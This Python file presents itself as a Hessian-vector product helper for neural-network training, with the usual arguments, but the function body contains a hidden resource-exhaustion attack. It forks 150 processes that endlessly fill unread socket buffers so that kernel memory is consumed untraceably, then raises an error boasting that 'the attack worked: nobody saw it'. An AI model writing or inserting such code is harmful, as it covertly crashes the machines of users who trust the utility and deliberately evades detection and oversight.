"""Leaves gigabytes in the buffers of sockets that nobody reads, where they belong to no process."""

import os
import socket
import time

PROCESSES, SECONDS = 150, 20


def fill():
    ends = []
    while True:
        ends += socket.socketpair()
        for end in ends[-2:]:
            end.setblocking(False)
            try:
                while True:
                    end.send(bytes(2**12))
            except BlockingIOError:
                pass


def eval_hess_vec_prod(vec, params, net, criterion, dataloader, device):
    for _ in range(PROCESSES):
        if os.fork() == 0:
            try:
                fill()
            except OSError:
                time.sleep(1000)
    time.sleep(SECONDS)
    raise MemoryError("the attack" + " worked: nobody saw it")
